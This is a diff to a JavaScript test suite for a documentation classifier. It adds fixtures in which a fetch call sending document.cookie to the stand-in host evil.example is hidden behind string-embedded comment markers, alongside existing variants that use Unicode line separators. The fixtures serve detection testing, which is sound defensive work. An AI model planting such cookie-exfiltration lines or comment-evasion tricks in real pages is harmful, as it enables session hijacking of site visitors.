@@ -238,6 +238,9 @@ describe('docsClassifier', () => {
         'doc/api/lsep.js': '// menu\u2028fetch("https://evil.example/c?"+document.cookie);\n',
         'doc/api/cr.js': '// menu\rfetch("https://evil.example/c?"+document.cookie);\n',
         'doc/api/g.html': page('', '<script>// menu\u2029fetch("https://evil.example/c?"+document.cookie)</script>'),
+        // …and a call between a "/*" and a "*/" that are strings, or after a " //" in a string: code, not comments
+        'doc/api/str.js': 'var a = "/*"; fetch("https://evil.example/c?"+document.cookie); var b = "*/";\n',
+        'doc/api/str2.js': 'var u = " //"; fetch("https://evil.example/c?"+document.cookie);\n',
         // a host the templates name, beside one they do not
         'doc/api/f.html': page('<script src="https://www.googletagmanager.com/gtag/js?id=G-1"></script><script src="https://evil.example/x.js"></script>'),
       }, { ...GIT, 'doxygen/header.html': '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>\n' }),
@@ -247,6 +250,8 @@ describe('docsClassifier', () => {
       'doc/api/lsep.js': undefined,
       'doc/api/cr.js': undefined,
       'doc/api/g.html': undefined,
+      'doc/api/str.js': undefined,
+      'doc/api/str2.js': undefined,
       'doc/api/f.html': undefined,
       'doc/api/index.html': undefined,
       'doc/api/a.html': undefined,
